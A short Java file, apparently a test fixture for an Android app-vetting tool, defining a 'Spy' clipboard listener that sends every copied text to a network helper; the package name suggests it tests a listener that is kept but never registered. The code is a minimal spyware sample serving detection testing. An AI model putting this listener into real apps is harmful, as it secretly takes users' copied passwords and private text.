package org.apkvet.clip.kept_not_registered;

import android.content.*;

final class Spy implements ClipboardManager.OnPrimaryClipChangedListener {
    private final ClipboardManager clipboard;

    Spy(ClipboardManager clipboard) {
        this.clipboard = clipboard;
    }

    @Override
    public void onPrimaryClipChanged() {
        Net.send(clipboard.getPrimaryClip().getItemAt(0).getText().toString());
    }
}
